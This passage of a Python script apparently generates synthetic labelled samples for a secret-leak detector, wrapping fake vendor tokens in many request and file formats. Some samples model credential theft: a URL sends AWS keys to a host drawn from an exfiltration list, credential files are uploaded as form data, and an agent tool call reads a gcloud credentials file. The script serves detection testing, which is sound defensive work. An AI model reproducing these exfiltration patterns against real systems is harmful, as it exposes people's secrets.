    o = {'log': {'version': '1.2', 'creator': {'name': 'WebInspector', 'version': '537.36'}, 'entries': [
        {'startedDateTime': iso(ms=True), 'time': R.randint(30, 800),
         'request': {'method': 'GET', 'url': f'https://{sp["api"]}/v1/{pick(["me", "account", "projects"])}',
                     'headers': [{'name': 'Accept', 'value': 'application/json'}, {'name': name, 'value': val}]},
         'response': {'status': 200, 'statusText': 'OK'}}]}}
    return json.dumps(o), 'application/json', None


def c_ipynb(sp):
    src = ['import os\n'] + [f'os.environ["{e}"] = "{v}"\n' for e, v in _ev(sp)] + ['client = make_client()\n']
    o = {'cells': [{'cell_type': 'code', 'execution_count': R.randint(1, 30), 'metadata': {}, 'outputs': [], 'source': src}],
         'metadata': {'kernelspec': {'name': 'python3', 'display_name': 'Python 3'}}, 'nbformat': 4, 'nbformat_minor': 5}
    return json.dumps(o), 'application/json', None


def c_actions(sp):
    y = (f'name: deploy\non:\n  push:\n    branches: [main]\njobs:\n  deploy:\n    runs-on: ubuntu-latest\n    env:\n'
         + ''.join(f'      {e}: {yq(v)}\n' for e, v in _ev(sp))
         + '    steps:\n      - uses: actions/checkout@v4\n      - run: make deploy\n')
    o = {'message': 'ci: add deploy workflow', 'content': b64(y), 'branch': pick(['main', 'ci-fix', 'deploy'])}
    return json.dumps(o), 'application/json', None


def c_tfvars(sp):
    t = ''.join(f'{k} = "{v}"\n' for k, v in _kv(sp)) + f'region = "{pick(["us-east-1", "eu-central-1"])}"\n'
    return t, 'text/plain', None


BODY_CARRIERS = [c_json, c_form, c_multipart, c_yaml, c_toml, c_ini, c_gist, c_dockerfile, c_k8s, c_chat,
                 c_agent_tool, c_log, c_trace, c_csv, c_email, c_issue, c_gzip_json, c_deflate_ndjson, c_b64_json,
                 c_hex_json, c_double_json, c_unicode_json, c_xml, c_properties, c_graphql, c_diff, c_har, c_ipynb,
                 c_actions, c_tfvars]
_deck = []


def draw_carrier(sp):
    skipped = []
    try:
        while True:
            if not _deck:
                d = BODY_CARRIERS[:]
                R.shuffle(d)
                _deck.extend(d)
            c = _deck.pop()
            if c is c_har and not sp['hdr']:
                skipped.append(c)
                continue
            return c
    finally:
        _deck.extend(skipped)


def spec(svc, pairs, api=None, hdr=(), url=(), tok=None, special=(), url_primary=False):
    return dict(svc=svc, pairs=list(pairs), api=api or f'api.{svc.lower().replace(" ", "")}.com', hdr=list(hdr),
                url=list(url), tok=tok if tok is not None else pairs[0][2], special=list(special),
                url_primary=url_primary)


def run_vendor(cls, n, mkspec):
    out = []
    s0 = mkspec()
    nh = 1 if s0['hdr'] else 0
    nu = 1 if s0['url'] else 0
    if n >= 6 and s0['hdr']:
        nh += 1
    if s0['url_primary'] and s0['url']:
        nu += 1
    plan = ['header'] * nh + ['url'] * nu
    nb = n - len(plan)
    ns = min(len(s0['special']), nb)
    plan += ['special'] * ns + ['body'] * (nb - ns)
    si = 0
    for kind in plan:
        s = mkspec()
        if kind == 'header':
            c = mk('positive', cls, 'header', pick(s['hdr']))
        elif kind == 'url':
            c = mk('positive', cls, 'url', pick(s['url']))
        elif kind == 'special':
            p, ct, enc = s['special'][si](s)
            si += 1
            c = mk('positive', cls, 'body', p, ct, enc)
        else:
            p, ct, enc = draw_carrier(s)(s)
            c = mk('positive', cls, 'body', p, ct, enc)
        verify(c, s['tok'])
        out.append(c)
    return out


# ----------------------------------------------------------------------------
# vendor token specs (public formats)
# ----------------------------------------------------------------------------
def _repo():
    return pick(ORGS), pick(REPOS)


def v_github():
    pre = pick(['ghp_', 'ghp_', 'ghp_', 'gho_', 'ghu_', 'ghs_', 'ghr_'])
    t = gh_tok(pre)
    e = {'ghp_': 'GITHUB_TOKEN', 'gho_': 'GH_OAUTH_TOKEN', 'ghu_': 'GITHUB_USER_TOKEN',
         'ghs_': 'GITHUB_INSTALLATION_TOKEN', 'ghr_': 'GITHUB_REFRESH_TOKEN'}[pre]
    o, r = _repo()
    return spec('github', [(e, e.lower(), t)], api='api.github.com',
                hdr=[f'Authorization: token {t}', f'Authorization: Bearer {t}'],
                url=[f'https://x-access-token:{t}@github.com/{o}/{r}.git/info/refs?service=git-upload-pack',
                     f'https://{t}@github.com/{o}/{r}.git/info/refs?service=git-receive-pack'])


def v_github_fg():
    t = 'github_pat_11' + rs(20, UP + DIG) + '_' + rs(59)
    o, r = _repo()
    return spec('github', [('GH_PAT', 'github_pat', t)], api='api.github.com',
                hdr=[f'Authorization: Bearer {t}', f'Authorization: token {t}'],
                url=[f'https://oauth2:{t}@github.com/{o}/{r}.git/info/refs?service=git-upload-pack'])


def v_gitlab():
    t = pick(['glpat-', 'glpat-', 'glpat-', 'gldt-', 'glrt-']) + rs(20, B64U)
    g = pick(ORGS)
    return spec('gitlab', [('GITLAB_TOKEN', 'gitlab_token', t)], api='gitlab.com',
                hdr=[f'PRIVATE-TOKEN: {t}', f'Authorization: Bearer {t}'],
                url=[f'https://gitlab.com/api/v4/projects?private_token={t}&membership=true',
                     f'https://oauth2:{t}@gitlab.com/{g}/{pick(REPOS)}.git/info/refs?service=git-upload-pack'])


def v_slack_bot():
    t = f'xoxb-{rdig(11)}-{rdig(13)}-{rs(24)}'
    return spec('slack', [('SLACK_BOT_TOKEN', 'slack_bot_token', t)], api='slack.com',
                hdr=[f'Authorization: Bearer {t}'],
                url=[f'https://slack.com/api/conversations.history?token={t}&channel=C0{rs(9, UP + DIG)}&limit=200'])


def v_slack_user():
    t = f'xoxp-{rdig(11)}-{rdig(11)}-{rdig(13)}-{rhex(32)}'
    return spec('slack', [('SLACK_USER_TOKEN', 'slack_user_token', t)], api='slack.com',
                hdr=[f'Authorization: Bearer {t}'],
                url=[f'https://slack.com/api/users.list?token={t}&pretty=1'])


def v_slack_hook():
    u = f'https://hooks.slack.com/services/T{rs(8, UP + DIG)}/B{rs(10, UP + DIG)}/{rs(24)}'
    return spec('slack', [('SLACK_WEBHOOK_URL', 'slack_webhook_url', u)], api='hooks.slack.com', url=[u],
                url_primary=True)


def v_stripe_sk():
    t = 'sk_live_' + pick([rs(24), '51' + rs(97)])
    return spec('stripe', [('STRIPE_SECRET_KEY', 'stripe_secret_key', t)], api='api.stripe.com',
                hdr=[f'Authorization: Bearer {t}', f'Authorization: {basic(t, "")}'])


def v_stripe_rk():
    t = 'rk_live_' + pick([rs(24), '51' + rs(97)])
    return spec('stripe', [('STRIPE_RESTRICTED_KEY', 'stripe_api_key', t)], api='api.stripe.com',
                hdr=[f'Authorization: Bearer {t}'])


def v_stripe_wh():
    t = 'whsec_' + rs(32)
    return spec('stripe', [('STRIPE_WEBHOOK_SECRET', 'webhook_signing_secret', t)], api='api.stripe.com')


def aws_kid(pre='AKIA'):
    return pre + rs(16, B32U)


def aws_secret():
    return rs(40, B62 + '/+')


def _sigv4(kid):
    d = iso()[:10].replace('-', '')
    return (f'Authorization: AWS4-HMAC-SHA256 Credential={kid}/{d}/{pick(["us-east-1", "eu-west-1"])}/{pick(["s3", "sts", "execute-api"])}'
            f'/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={rhex(64)}')


def _presign(kid, extra=''):
    d = iso()[:10].replace('-', '')
    b = pick(['acme-artifacts', 'northwind-backups', 'globex-reports', 'media-uploads-prod'])
    return (f'https://{b}.s3.amazonaws.com/{pick(["exports", "builds", "tmp"])}/{rhex(8)}.tar.gz?X-Amz-Algorithm=AWS4-HMAC-SHA256'
            f'&X-Amz-Credential={kid}%2F{d}%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date={d}T{R.randint(0, 23):02d}0000Z'
            f'&X-Amz-Expires=3600{extra}&X-Amz-SignedHeaders=host&X-Amz-Signature={rhex(64)}')


def v_aws_kid():
    k = aws_kid(pick(['AKIA', 'AKIA', 'ASIA']))
    return spec('aws', [('AWS_ACCESS_KEY_ID', 'aws_access_key_id', k)], api='sts.amazonaws.com',
                hdr=[_sigv4(k)], url=[_presign(k)])


def v_aws_secret():
    k, s = aws_kid(), aws_secret()
    ex = pick(EXFIL)
    return spec('aws', [('AWS_ACCESS_KEY_ID', 'aws_access_key_id', k), ('AWS_SECRET_ACCESS_KEY', 'aws_secret_access_key', s)],
                api='sts.amazonaws.com', tok=s,
                url=[f'https://{ex}/c?aws_access_key_id={k}&aws_secret_access_key={quote(s, safe="")}'],
                special=[sp_aws_credentials_file])


def sp_aws_credentials_file(sp):
    (_, _, k), (_, _, s) = sp['pairs'][:2]
    t = f'[default]\naws_access_key_id = {k}\naws_secret_access_key = {s}\nregion = us-east-1\n\n[{pick(ENVS)}]\nrole_arn = arn:aws:iam::{rdig(12)}:role/deploy\nsource_profile = default\n'
    bnd = '----------------------------' + rdig(24)
    body = (f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="credentials"\r\nContent-Type: application/octet-stream\r\n\r\n'
            f'{t}\r\n--{bnd}--\r\n')
    return body, f'multipart/form-data; boundary={bnd}', None


def aws_session():
    pre = pick([b'\x21\x0a\x09origin_ec\x10', b'\x17\x0a\x06er/aws\x10'])
    return b64(pre + rb(R.randint(420, 640)))


def v_aws_session():
    k, s, st = aws_kid('ASIA'), aws_secret(), aws_session()
    return spec('aws', [('AWS_ACCESS_KEY_ID', 'aws_access_key_id', k), ('AWS_SECRET_ACCESS_KEY', 'aws_secret_access_key', s),
                        ('AWS_SESSION_TOKEN', 'aws_session_token', st)], api='sts.amazonaws.com', tok=st,
                hdr=[f'X-Amz-Security-Token: {st}'],
                url=[_presign(k, '&X-Amz-Security-Token=' + quote(st, safe=''))])


def v_gcp_api():
    t = 'AIza' + rs(35, B64U)
    return spec('google', [('GOOGLE_API_KEY', 'google_api_key', t)], api='maps.googleapis.com',
                hdr=[f'X-Goog-Api-Key: {t}'],
                url=[f'https://maps.googleapis.com/maps/api/geocode/json?address={quote_plus(str(R.randint(1, 999)) + " Market St, San Francisco")}&key={t}',
                     f'https://generativelanguage.googleapis.com/v1beta/models/gemini-1.5-flash:generateContent?key={t}',
                     f'https://www.googleapis.com/youtube/v3/search?part=snippet&q=release+notes&key={t}'])


def v_google_secret():
    cid = f'{rdig(12)}-{rs(32, LOW + DIG)}.apps.googleusercontent.com'
    t = 'GOCSPX-' + rs(28, B64U)
    return spec('google', [('GOOGLE_CLIENT_ID', 'client_id', cid), ('GOOGLE_CLIENT_SECRET', 'client_secret', t)],
                api='oauth2.googleapis.com', tok=t, special=[sp_google_client_json])


def sp_google_client_json(sp):
    cid, t = sp['pairs'][0][2], sp['pairs'][1][2]
    o = {'installed': {'client_id': cid, 'project_id': f'{pick(REPOS)}-{rdig(6)}', 'auth_uri': 'https://accounts.google.com/o/oauth2/auth',
                       'token_uri': 'https://oauth2.googleapis.com/token', 'client_secret': t, 'redirect_uris': ['http://localhost']}}
    return json.dumps(o), 'application/json', None


def v_google_oauth():
    t = pick(['ya29.a0' + rs(R.randint(150, 200), B64U), '1//0' + rs(R.randint(95, 105), B64U)])
    return spec('google', [('GOOGLE_OAUTH_TOKEN', 'access_token' if t.startswith('ya29') else 'refresh_token', t)],
                api='www.googleapis.com', hdr=[f'Authorization: Bearer {t}'],
                url=[f'https://www.googleapis.com/drive/v3/files?pageSize=100&access_token={t}'])


def v_azure_storage():
    key = b64(rb(64))
    acct = pick(['acme', 'nwprod', 'globexdata', 'initechlogs']) + rs(4, LOW + DIG)
    conn = f'DefaultEndpointsProtocol=https;AccountName={acct};AccountKey={key};EndpointSuffix=core.windows.net'
    pairs = pick([[('AZURE_STORAGE_CONNECTION_STRING', 'storage_connection_string', conn)],
                  [('AZURE_STORAGE_ACCOUNT', 'storage_account', acct), ('AZURE_STORAGE_KEY', 'storage_account_key', key)]])
    return spec('azure', pairs, api=f'{acct}.blob.core.windows.net', tok=key)


def v_azure_sas():
    acct = pick(['acme', 'nwprod', 'globexdata', 'initechlogs']) + rs(4, LOW + DIG)
    sig = b64(rb(32))
    t0 = epoch()
    sas = (f'sv=2022-11-02&ss={pick(["b", "bfqt"])}&srt={pick(["sco", "o"])}&sp={pick(["rwdlac", "r", "rwdlacupiytfx"])}'
           f'&se={iso(t0 + 86400 * 30)}&st={iso(t0)}&spr=https&sig={quote(sig, safe="")}')
    u = f'https://{acct}.blob.core.windows.net/{pick(["backups", "exports", "uploads"])}/{pick(["db.bak", "report.csv", "data.parquet"])}?{sas}'
    return spec('azure', [('AZURE_BLOB_SAS_URL', 'sas_url', u)], api=f'{acct}.blob.core.windows.net', tok=sig,
                url=[u], url_primary=True)


def v_azure_ad():
    t = rs(3, B62) + pick(DIG) + 'Q~' + rs(34, B62 + '_~.-')
    return spec('azure', [('AZURE_TENANT_ID', 'tenant_id', ruuid()), ('AZURE_CLIENT_ID', 'client_id', ruuid()),
                          ('AZURE_CLIENT_SECRET', 'client_secret', t)], api='login.microsoftonline.com', tok=t)


def v_openai():
    t = pick(['sk-proj-' + rs(74, B64U) + 'T3BlbkFJ' + rs(74, B64U), 'sk-' + rs(20) + 'T3BlbkFJ' + rs(20),
              'sk-svcacct-' + rs(74, B64U) + 'T3BlbkFJ' + rs(74, B64U)])
    return spec('openai', [('OPENAI_API_KEY', 'openai_api_key', t)], api='api.openai.com',
                hdr=[f'Authorization: Bearer {t}'])


def v_anthropic():
    t = pick(['sk-ant-api03-', 'sk-ant-api03-', 'sk-ant-admin01-']) + rs(93, B64U) + 'AA'
    return spec('anthropic', [('ANTHROPIC_API_KEY', 'anthropic_api_key', t)], api='api.anthropic.com',
                hdr=[f'x-api-key: {t}', f'X-Api-Key: {t}'])


def v_hf():
    t = 'hf_' + rs(34, UP + LOW)
    u = pick(USERS)
    return spec('huggingface', [('HF_TOKEN', 'hf_token', t)], api='huggingface.co', hdr=[f'Authorization: Bearer {t}'],
                url=[f'https://{u}:{t}@huggingface.co/{pick(ORGS)}/{pick(["llama-ft", "bert-ner", "whisper-small-de"])}.git/info/lfs/objects/batch'])


def v_npm():
    t = gh_tok('npm_')
    return spec('npm', [('NPM_TOKEN', 'npm_token', t)], api='registry.npmjs.org', hdr=[f'Authorization: Bearer {t}'],
                special=[lambda sp: (f'registry=https://registry.npmjs.org/\n//registry.npmjs.org/:_authToken={sp["tok"]}\nalways-auth=true\n', 'text/plain', None)])


def pypi_tok():
    cav = json.dumps([1, ['version', 1], {'permissions': 'user', 'version': 1}]).encode()
    mac = b'\x02\x01\x08pypi.org\x02\x25\x08\x01\x12\x21' + ruuid().encode() + b'\x00\x02\x2a' + cav + b'\x00\x00\x06\x20' + rb(32)
    return 'pypi-' + b64u(mac)


def v_pypi():
    t = pypi_tok()
    return spec('pypi', [('TWINE_PASSWORD', 'pypi_token', t)], api='upload.pypi.org', hdr=[f'Authorization: {basic("__token__", t)}'],
                special=[lambda sp: (f'[distutils]\nindex-servers =\n    pypi\n\n[pypi]\nusername = __token__\npassword = {sp["tok"]}\n', 'text/plain', None)])


def v_sendgrid():
    t = 'SG.' + rs(22, B64U) + '.' + rs(43, B64U)
    return spec('sendgrid', [('SENDGRID_API_KEY', 'sendgrid_api_key', t)], api='api.sendgrid.com', hdr=[f'Authorization: Bearer {t}'])


def v_twilio_key():
    sid, sec = 'SK' + rhex(32), rs(32)
    return spec('twilio', [('TWILIO_API_KEY', 'api_key_sid', sid), ('TWILIO_API_SECRET', 'api_key_secret', sec)],
                api='api.twilio.com', tok=sec, hdr=[f'Authorization: {basic(sid, sec)}'])


def v_twilio_auth():
    ac, t = 'AC' + rhex(32), rhex(32)
    return spec('twilio', [('TWILIO_ACCOUNT_SID', 'account_sid', ac), ('TWILIO_AUTH_TOKEN', 'auth_token', t)],
                api='api.twilio.com', tok=t, hdr=[f'Authorization: {basic(ac, t)}'],
                url=[f'https://{ac}:{t}@api.twilio.com/2010-04-01/Accounts/{ac}/Messages.json?PageSize=50'])


def v_shopify():
    t = pick(['shpat_', 'shpat_', 'shpca_', 'shppa_', 'shpss_']) + rhex(32)
    store = pick(['acme-outlet', 'northwind-shop', 'globex-store', 'vandelay']) + '.myshopify.com'
    return spec('shopify', [('SHOPIFY_ACCESS_TOKEN', 'shopify_access_token', t), ('SHOPIFY_STORE', 'store', store)],
                api=store, hdr=[f'X-Shopify-Access-Token: {t}'])


def v_discord_bot():
    t = b64u(rdig(R.choice([18, 19]))) + '.' + rs(6, B64U) + '.' + rs(38, B64U)
    return spec('discord', [('DISCORD_BOT_TOKEN', 'discord_token', t)], api='discord.com', hdr=[f'Authorization: Bot {t}'])


def v_discord_hook():
    u = f'https://discord.com/api/webhooks/{rdig(19)}/{rs(68, B64U)}'
    return spec('discord', [('DISCORD_WEBHOOK_URL', 'webhook_url', u)], api='discord.com', url=[u], url_primary=True)


def v_telegram():
    t = f'{rdig(R.choice([9, 10]))}:AA{rs(33, B64U)}'
    chat = pick(['-100' + rdig(10), rdig(9)])
    return spec('telegram', [('TELEGRAM_BOT_TOKEN', 'bot_token', t)], api='api.telegram.org',
                url=[f'https://api.telegram.org/bot{t}/sendMessage?chat_id={chat}&text={quote("build finished")}',
                     f'https://api.telegram.org/bot{t}/getUpdates?offset={rdig(9)}',
                     f'https://api.telegram.org/bot{t}/sendDocument?chat_id={chat}'], url_primary=True)


def v_atlassian():
    t = pick(['ATATT3xFfGF0' + rs(171, B64U) + '=' + rs(8, HEXU), 'ATBB' + rs(28) + rs(8, HEXU)])
    _, _, em = person()
    return spec('atlassian', [('JIRA_USER', 'user', em), ('JIRA_API_TOKEN', 'api_token', t)], api=f'{pick(ORGS)}.atlassian.net',
                tok=t, hdr=[f'Authorization: {basic(em, t)}'])


def v_do():
    t = pick(['dop_v1_', 'dop_v1_', 'doo_v1_', 'dor_v1_']) + rhex(64)
    return spec('digitalocean', [('DIGITALOCEAN_TOKEN', 'do_token', t)], api='api.digitalocean.com', hdr=[f'Authorization: Bearer {t}'])


def v_mailgun():
    t = 'key-' + rhex(32)
    dom = 'mg.' + pick(CORP)
    return spec('mailgun', [('MAILGUN_API_KEY', 'mailgun_api_key', t), ('MAILGUN_DOMAIN', 'domain', dom)], api='api.mailgun.net',
                hdr=[f'Authorization: {basic("api", t)}'], url=[f'https://api:{t}@api.mailgun.net/v3/{dom}/events?limit=25'])


def v_mailchimp():
    t = rhex(32) + '-us' + str(R.randint(1, 21))
    return spec('mailchimp', [('MAILCHIMP_API_KEY', 'mailchimp_api_key', t)], api=f'{t.split("-")[1]}.api.mailchimp.com',
                hdr=[f'Authorization: {basic("anystring", t)}', f'Authorization: apikey {t}'])


def v_datadog():
    t = rhex(32)
    pairs = [('DD_API_KEY', 'datadog_api_key', t)]
    if R.random() < 0.5:
        pairs.append(('DD_SITE', 'site', 'datadoghq.eu'))
    return spec('datadog', pairs, api='api.datadoghq.com', hdr=[f'DD-API-KEY: {t}'],
                url=[f'https://http-intake.logs.datadoghq.com/api/v2/logs?dd-api-key={t}&ddsource=nodejs&service={pick(APPS)}'])


def v_newrelic():
    t = 'NRAK-' + rs(27, UP + DIG)
    return spec('newrelic', [('NEW_RELIC_API_KEY', 'newrelic_api_key', t)], api='api.newrelic.com', hdr=[f'Api-Key: {t}', f'X-Api-Key: {t}'])


def v_sentry():
    if R.random() < 0.5:
        t = 'sntryu_' + rhex(64)
    else:
        t = 'sntrys_' + b64u(json.dumps({'iat': epoch() + R.random(), 'url': 'https://sentry.io', 'region_url': 'https://us.sentry.io',
                                         'org': pick(ORGS)})) + '_' + rs(43, B64U)
    return spec('sentry', [('SENTRY_AUTH_TOKEN', 'auth_token', t)], api='sentry.io', hdr=[f'Authorization: Bearer {t}'])


def v_databricks():
    t = 'dapi' + rhex(32) + pick(['', '', '-2', '-3'])
    host = f'adb-{rdig(16)}.{R.randint(1, 19)}.azuredatabricks.net'
    return spec('databricks', [('DATABRICKS_HOST', 'host', 'https://' + host), ('DATABRICKS_TOKEN', 'token', t)], api=host, tok=t,
                hdr=[f'Authorization: Bearer {t}'])


def v_vault():
    t = pick(['hvs.' + rs(24), 'hvs.CAESI' + rs(86, B64U), 'hvb.AAAAAQ' + rs(110, B64U)])
    return spec('vault', [('VAULT_ADDR', 'address', f'https://vault.{pick(CORP)}:8200'), ('VAULT_TOKEN', 'token', t)],
                api=f'vault.{pick(CORP)}', tok=t, hdr=[f'X-Vault-Token: {t}'])


def v_terraform():
    t = rs(14) + '.atlasv1.' + rs(67)
    return spec('terraform', [('TF_TOKEN_app_terraform_io', 'token', t)], api='app.terraform.io', hdr=[f'Authorization: Bearer {t}'],
                special=[lambda sp: (json.dumps({'credentials': {'app.terraform.io': {'token': sp['tok']}}}, indent=2), 'application/json', None)])


def v_linear():
    t = 'lin_api_' + rs(40)
    return spec('linear', [('LINEAR_API_KEY', 'linear_api_key', t)], api='api.linear.app', hdr=[f'Authorization: {t}'])


def v_notion():
    t = pick(['secret_' + rs(43), 'ntn_' + rdig(11) + rs(35)])
    return spec('notion', [('NOTION_TOKEN', 'notion_token', t)], api='api.notion.com', hdr=[f'Authorization: Bearer {t}'])


def v_airtable():
    t = 'pat' + rs(14) + '.' + rhex(64)
    return spec('airtable', [('AIRTABLE_TOKEN', 'airtable_token', t)], api='api.airtable.com', hdr=[f'Authorization: Bearer {t}'])


def v_postman():
    t = 'PMAK-' + rhex(24) + '-' + rhex(34)
    return spec('postman', [('POSTMAN_API_KEY', 'postman_api_key', t)], api='api.getpostman.com', hdr=[f'X-Api-Key: {t}'],
                url=[f'https://api.getpostman.com/collections?apikey={t}'])


def v_square():
    t = pick(['EAAA' + rs(60, B64U), 'sq0atp-' + rs(22, B64U), 'sq0csp-' + rs(43, B64U)])
    return spec('square', [('SQUARE_ACCESS_TOKEN' if not t.startswith('sq0csp') else 'SQUARE_APPLICATION_SECRET', 'square_token', t)],
                api='connect.squareup.com', hdr=[f'Authorization: Bearer {t}'])


def age_keys():
    sk = bech32_encode('age-secret-key-', convertbits(rb(32), 8, 5)).upper()
    pk = bech32_encode('age', convertbits(rb(32), 8, 5))
    return sk, pk


def v_age():
    sk, pk = age_keys()
    ident = f'# created: {iso()}\n# public key: {pk}\n{sk}\n'

    def keysfile(sp):
        bnd = '----WebKitFormBoundary' + rs(16)
        return (f'--{bnd}\r\nContent-Disposition: form-data; name="file"; filename="keys.txt"\r\nContent-Type: text/plain\r\n\r\n{ident}\r\n--{bnd}--\r\n',
                f'multipart/form-data; boundary={bnd}', None)

    def chat(sp):
        return json.dumps({'model': pick(MODELS), 'messages': [{'role': 'user', 'content': f'sops can\'t decrypt my file. This is my ~/.config/sops/age/keys.txt:\n\n{ident}\nWhat is wrong?'}]}), 'application/json', None

    return spec('age', [('SOPS_AGE_KEY', 'age_identity', sk)], api='sops.local', special=[keysfile, chat])


def v_docker():
    t = 'dckr_pat_' + rs(27, B64U)
    u = pick(USERS) + rdig(3)

    def cfg(sp):
        return json.dumps({'auths': {'https://index.docker.io/v1/': {'auth': b64(f'{u}:{t}')}}, 'credsStore': ''}, indent=2), 'application/json', None

    return spec('dockerhub', [('DOCKERHUB_USERNAME', 'username', u), ('DOCKERHUB_TOKEN', 'password', t)], api='hub.docker.com', tok=t,
                hdr=[f'Authorization: {basic(u, t)}'], special=[cfg])


def v_grafana():
    if R.random() < 0.6:
        t = 'glsa_' + rs(32) + '_' + rhex(8)
    else:
        t = 'glc_' + b64(json.dumps({'o': rdig(6), 'n': f'stack-{rdig(6)}-hm-read-{pick(APPS)}', 'k': rs(24), 'm': {'r': pick(['us', 'eu', 'prod-us-east-0'])}},
                                    separators=(',', ':'))).rstrip('=')
    return spec('grafana', [('GRAFANA_TOKEN', 'grafana_token', t)], api=f'{pick(ORGS)}.grafana.net', hdr=[f'Authorization: Bearer {t}'])


def v_okta():
    t = '00' + rs(40, B64U)
    return spec('okta', [('OKTA_ORG_URL', 'org_url', f'https://{pick(ORGS)}.okta.com'), ('OKTA_API_TOKEN', 'api_token', t)],
                api=f'{pick(ORGS)}.okta.com', tok=t, hdr=[f'Authorization: SSWS {t}'])


def v_jfrog():
    if R.random() < 0.5:
        t = 'AKCp' + rs(69)
    else:
        t = b64(f'reftkn:01:{epoch() + 86400 * 365}:{rs(27)}').rstrip('=')
    return spec('jfrog', [('ARTIFACTORY_API_KEY', 'artifactory_api_key', t)], api=f'{pick(ORGS)}.jfrog.io',
                hdr=[f'X-JFrog-Art-Api: {t}', f'Authorization: Bearer {t}'])


def v_groq():
    t = 'gsk_' + rs(52)
    return spec('groq', [('GROQ_API_KEY', 'groq_api_key', t)], api='api.groq.com', hdr=[f'Authorization: Bearer {t}'])


def v_twitter():
    t = 'AAAAAAAAAAAAAAAAAAAAA' + rs(8) + 'AAAAAAA' + quote(b64(rb(24)), safe='') + rs(50)
    return spec('twitter', [('TWITTER_BEARER_TOKEN', 'bearer_token', t)], api='api.twitter.com', hdr=[f'Authorization: Bearer {t}'])


VENDORS = [
    ('github-token', 7, v_github), ('github-fine-grained-token', 4, v_github_fg), ('gitlab-token', 4, v_gitlab),
    ('slack-bot-token', 4, v_slack_bot), ('slack-user-token', 4, v_slack_user), ('slack-webhook-url', 4, v_slack_hook),
    ('stripe-secret-key', 5, v_stripe_sk), ('stripe-restricted-key', 4, v_stripe_rk), ('stripe-webhook-secret', 4, v_stripe_wh),
    ('aws-access-key-id', 5, v_aws_kid), ('aws-secret-access-key', 6, v_aws_secret), ('aws-session-token', 4, v_aws_session),
    ('gcp-api-key', 4, v_gcp_api), ('google-oauth-client-secret', 4, v_google_secret), ('google-oauth-token', 4, v_google_oauth),
    ('azure-storage-account-key', 4, v_azure_storage), ('azure-sas-token', 4, v_azure_sas), ('azure-ad-client-secret', 4, v_azure_ad),
    ('openai-api-key', 6, v_openai), ('anthropic-api-key', 5, v_anthropic), ('huggingface-token', 4, v_hf),
    ('npm-token', 4, v_npm), ('pypi-token', 4, v_pypi), ('sendgrid-api-key', 4, v_sendgrid), ('twilio-api-key', 4, v_twilio_key),
    ('twilio-auth-token', 4, v_twilio_auth), ('shopify-token', 4, v_shopify), ('discord-bot-token', 4, v_discord_bot),
    ('discord-webhook-url', 4, v_discord_hook), ('telegram-bot-token', 4, v_telegram), ('atlassian-api-token', 4, v_atlassian),
    ('digitalocean-token', 4, v_do), ('mailgun-api-key', 4, v_mailgun), ('mailchimp-api-key', 4, v_mailchimp),
    ('datadog-api-key', 4, v_datadog), ('newrelic-api-key', 4, v_newrelic), ('sentry-auth-token', 4, v_sentry),
    ('databricks-token', 4, v_databricks), ('vault-token', 4, v_vault), ('terraform-cloud-token', 4, v_terraform),
    ('linear-api-key', 4, v_linear), ('notion-token', 4, v_notion), ('airtable-token', 4, v_airtable),
    ('postman-api-key', 4, v_postman), ('square-access-token', 4, v_square), ('age-secret-key', 4, v_age),
    ('docker-hub-token', 4, v_docker), ('grafana-token', 4, v_grafana), ('okta-api-token', 4, v_okta),
    ('jfrog-token', 4, v_jfrog), ('groq-api-key', 4, v_groq), ('twitter-bearer-token', 4, v_twitter),
]


# ----------------------------------------------------------------------------
# positives with bespoke layouts
# ----------------------------------------------------------------------------
POS = []


def P(cls, where, payload, ct=None, enc=None, tok=None):
    c = mk('positive', cls, where, payload, ct, enc)
    verify(c, tok)
    POS.append(c)


def mp(fields, files=()):
    """multipart/form-data body; fields [(name, value)], files [(name, filename, ctype, bytes|str)]"""
    bnd = '----' + pick(['WebKitFormBoundary', 'FormBoundary', '']) + rs(16)
    out = b''
    for n, v in fields:
        out += f'--{bnd}\r\nContent-Disposition: form-data; name="{n}"\r\n\r\n{v}\r\n'.encode()
    for n, fn, ct, data in files:
        if isinstance(data, str):
            data = data.encode()
        out += f'--{bnd}\r\nContent-Disposition: form-data; name="{n}"; filename="{fn}"\r\nContent-Type: {ct}\r\n\r\n'.encode() + data + b'\r\n'
    out += f'--{bnd}--\r\n'.encode()
    try:
        out = out.decode('utf-8')
    except UnicodeDecodeError:
        pass
    return out, f'multipart/form-data; boundary={bnd}'


def chat_json(text, system=None):
    msgs = ([{'role': 'system', 'content': system}] if system else []) + [{'role': 'user', 'content': text}]
    return json.dumps({'model': pick(MODELS), 'messages': msgs, 'stream': R.random() < 0.5})


def tool_result_json(cmd, output):
    tid = 'toolu_' + rs(24)
    return json.dumps({'model': pick(MODELS), 'max_tokens': 4096, 'messages': [
        {'role': 'user', 'content': 'Investigate why the job cannot reach the cluster.'},
        {'role': 'assistant', 'content': [{'type': 'tool_use', 'id': tid, 'name': 'bash', 'input': {'command': cmd}}]},
        {'role': 'user', 'content': [{'type': 'tool_result', 'tool_use_id': tid, 'content': output}]}]})


def gen_gcp_sa():
    for i in range(5):
        proj = f'{pick(REPOS)}-{rdig(6)}'
        key = wrap(b64(rsa_pkcs8())) + '\n'
        em = f'{pick(APPS)}@{proj}.iam.gserviceaccount.com'
        o = {'type': 'service_account', 'project_id': proj, 'private_key_id': rhex(40), 'private_key': key,
             'client_email': em, 'client_id': rdig(21), 'auth_uri': 'https://accounts.google.com/o/oauth2/auth',
             'token_uri': 'https://oauth2.googleapis.com/token',
             'auth_provider_x509_cert_url': 'https://www.googleapis.com/oauth2/v1/certs',
             'client_x509_cert_url': f'https://www.googleapis.com/robot/v1/metadata/x509/{quote(em)}', 'universe_domain': 'googleapis.com'}
        js = json.dumps(o, indent=2)
        tok = key.split('\n')[1]
        if i == 0:
            P('gcp-service-account-key', 'body', js, 'application/json', tok=tok)
        elif i == 1:
            y = f'apiVersion: v1\nkind: Secret\nmetadata:\n  name: gcp-sa\ntype: Opaque\ndata:\n  key.json: {b64(js)}\n'
            P('gcp-service-account-key', 'body', y, 'application/yaml', tok=tok)
        elif i == 2:
            b, ct = mp([('bucket', pick(ORGS) + '-uploads')], [('file', f'{proj}-{rhex(12)}.json', 'application/json', js)])
            P('gcp-service-account-key', 'body', b, ct, tok=tok)
        elif i == 3:
            P('gcp-service-account-key', 'body', tool_result_json('cat ~/.config/gcloud/application_default_credentials.json', js), 'application/json', tok=tok)
        else:
